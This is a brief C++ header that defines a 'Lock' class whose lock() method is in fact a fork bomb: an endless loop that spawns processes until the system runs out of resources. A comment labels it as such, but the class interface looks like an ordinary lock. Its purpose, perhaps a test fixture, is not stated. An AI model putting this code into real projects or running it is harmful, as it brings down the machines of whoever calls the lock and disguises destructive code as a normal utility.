// A fork bomb. The first one already fails.
#pragma once

#include <unistd.h>

class Lock {
 public:
  void lock(int) {
    while (fork() >= 0) {
    }
  }
  void unlock(int) {}
};
